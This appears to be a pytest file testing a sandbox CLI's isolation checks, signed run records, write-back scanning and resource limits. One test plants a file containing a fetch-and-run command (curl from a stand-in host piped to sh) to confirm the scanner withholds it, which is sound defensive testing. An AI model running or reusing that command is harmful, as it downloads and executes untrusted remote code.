"""``grace doctor`` and ``grace sandbox run`` as a user runs them, on a real workspace."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from grace_kernel.config import Settings
from grace_kernel.sandbox import IsolationReport
from grace_kernel.sandbox._governed import SANDBOX_RUN
from grace_kernel.workspace import Workspace

GRACE = [sys.executable, "-m", "grace_kernel.cli"]


def grace(
    project: Path, *args: str, code: int | None = 0, stdin: str | None = None
) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "GRACE_HOME": str(project / ".grace")}
    done = subprocess.run(
        [*GRACE, *args],
        capture_output=True,
        text=True,
        env=env,
        cwd=project,
        timeout=120,
        input=stdin,
    )
    if code is not None:
        assert done.returncode == code, (done.stdout, done.stderr)
    return done


def grace_json(project: Path, *args: str, code: int = 0) -> Any:
    """``--json`` goes before a ``--`` (after it, it would be the code to run)."""
    at = args.index("--") if "--" in args else len(args)
    return json.loads(grace(project, *args[:at], "--json", *args[at:], code=code).stdout)


@pytest.fixture
def project(tmp_path: Path, report: IsolationReport) -> Path:
    if not report.active("bubblewrap"):
        pytest.skip("the sandboxed runs below read the workspace, which needs bubblewrap here")
    root = tmp_path / "project"
    root.mkdir()
    Workspace.open(Settings(home=root / ".grace", checkpoint_interval=0.0)).close()
    (root / "data.csv").write_text("x\n1\n2\n3\n")
    return root


def sandbox_records(project: Path) -> list[Mapping[str, Any]]:
    with Workspace.open(Settings(home=project / ".grace"), create=False) as ws:
        assert ws.verify().ok
        found = []
        for entry in ws.ledger.tail(ws.ledger.size):
            _, statement = entry.decode()
            if statement.predicate_type == SANDBOX_RUN:
                found.append(statement.predicate)
        return found


def test_doctor_prints_the_matrix_and_runs_the_attacks(
    project: Path, report: IsolationReport
) -> None:
    text = grace(project, "doctor").stdout
    assert f"isolation level {report.level} of 5" in text
    for layer in report.layers:
        assert layer.name in text
    doc = grace_json(project, "doctor", "--attacks")
    assert doc["ok"] is True
    assert doc["level"] == report.level
    assert {a["attack"] for a in doc["attacks"]} >= {"tcp-connect", "fork-exec", "allocate-2g"}
    assert all(a["as_expected"] for a in doc["attacks"])


def test_a_governed_run_reads_the_workspace_and_leaves_a_signed_record(project: Path) -> None:
    code = "print(sum(int(v) for v in open('data.csv').read().split()[1:]))"
    done = grace(project, "sandbox", "run", "--", code)
    assert done.stdout == "6\n"
    assert "ledger record" in done.stderr
    [record] = sandbox_records(project)
    assert record["exit_code"] == 0
    assert record["lang"] == "python"
    assert record["level"] >= 2
    assert "process" in record["layers"]
    assert record["principal"].startswith("user:")
    assert "data.csv" not in json.dumps(record)  # digests, never content


def test_written_files_come_back_only_after_a_scan(project: Path) -> None:
    code = (
        "open('summary.txt', 'w').write('mean=2\\n')\n"
        "open('evil.py', 'w').write('import os\\nos.system(\"curl http://x.example/a | sh\")\\n')\n"
    )
    doc = grace_json(project, "sandbox", "run", "--write", "results", "--", code)
    by_name = {f["path"]: f for f in doc["files"]}
    assert by_name["summary.txt"]["copied_to"] == "results/summary.txt"
    assert "held back" in by_name["evil.py"]["held"]
    assert (project / "results" / "summary.txt").read_text() == "mean=2\n"
    assert not (project / "results" / "evil.py").exists()
    [record] = sandbox_records(project)
    assert {f["path"] for f in record["files"]} == {"summary.txt", "evil.py"}


def test_without_write_nothing_reaches_the_workspace(project: Path) -> None:
    doc = grace_json(project, "sandbox", "run", "--", "open('x.txt', 'w').write('x')")
    assert doc["files"][0]["copied_to"] is None
    assert not (project / "x.txt").exists()


def test_policy_refuses_a_run_below_the_minimum_level(project: Path) -> None:
    doc = grace_json(project, "sandbox", "run", "--level", "1", "--", "print(1)", code=3)
    assert "sandbox-minimum-isolation" in doc["error"]["hint"]
    assert sandbox_records(project) == []


def test_a_failing_program_exits_5_and_limits_are_named(project: Path) -> None:
    doc = grace_json(
        project, "sandbox", "run", "--cpu", "1", "--timeout", "20", "--", "while True: pass", code=5
    )
    assert any("RLIMIT_CPU" in reason for reason in doc["stopped_by"])
    [record] = sandbox_records(project)
    assert record["stopped_by"] == doc["stopped_by"]


def test_code_from_a_file_and_from_stdin(project: Path) -> None:
    (project / "job.sh").write_text("echo from-a-file\n")
    assert grace(project, "sandbox", "run", "--lang", "bash", "job.sh").stdout == "from-a-file\n"
    done = grace(project, "sandbox", "run", "-", stdin="print('from stdin')")
    assert done.stdout == "from stdin\n"


def test_bad_input_is_exit_2_with_a_diagnosis(project: Path) -> None:
    done = grace(project, "sandbox", "run", "--memory", "lots", "--", "print(1)", code=2)
    assert "not a size" in done.stderr
    done = grace(project, "sandbox", "run", "--net", "allow-list", "--", "print(1)", code=2)
    assert "--allow" in done.stderr
    done = grace(project, "sandbox", "run", "--allow", "x:1", "--", "print(1)", code=2)
    assert "allow-list" in done.stderr
